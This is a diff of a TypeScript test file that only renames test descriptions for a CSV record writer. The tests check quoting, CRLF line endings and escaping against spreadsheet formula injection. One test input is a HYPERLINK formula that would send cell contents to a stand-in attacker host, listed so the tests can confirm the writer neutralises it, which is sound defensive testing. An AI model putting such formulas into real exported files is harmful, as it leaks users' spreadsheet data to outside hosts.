@@ -5,8 +5,8 @@ import { csvRecord } from '@/lib/csv';
 
 const read = (csv: string) => parse(csv, { record_delimiter: '\r\n' });
 
-describe('a CSV record', () => {
-  it('is read back as it was written, whatever text is in it', () => {
+describe('csvRecord', () => {
+  it('round-trips any text', () => {
     const text = fc
       .string({ unit: 'grapheme' })
       .filter((cell) => !/^[=+\-@\t\r\n＝＋－＠]/.test(cell));
@@ -19,13 +19,13 @@ describe('a CSV record', () => {
     );
   });
 
-  it('quotes commas, quotes and line breaks, and ends in CRLF', () => {
+  it('quotes commas, quotes and line breaks, and ends with CRLF', () => {
     expect(csvRecord(['a,b', 'say "hi"', 'two\nlines', 'plain'])).toBe(
       '"a,b","say ""hi""","two\nlines",plain\r\n',
     );
   });
 
-  it('leaves nothing of null, and numbers as they are', () => {
+  it('writes null as an empty cell and numbers verbatim', () => {
     expect(csvRecord([null, -1, 2.5, true])).toBe(',-1,2.5,true\r\n');
   });
 
@@ -40,11 +40,11 @@ describe('a CSV record', () => {
     '\n=1',
     '＝1+1',
     '=HYPERLINK("https://evil.example?"&A1,"x")',
-  ])('makes no formula of %j', (cell) => {
+  ])('escapes the formula %j', (cell) => {
     expect(read(csvRecord([cell, 'x']))).toEqual([[`'${cell}`, 'x']]);
   });
 
-  it('begins with no formula for any text at all', () => {
+  it('never starts a cell with a formula character', () => {
     const first = fc.constantFrom(...'=+-@\t\r\n"\', ');
     fc.assert(
       fc.property(first, fc.string(), (begin, rest) => {
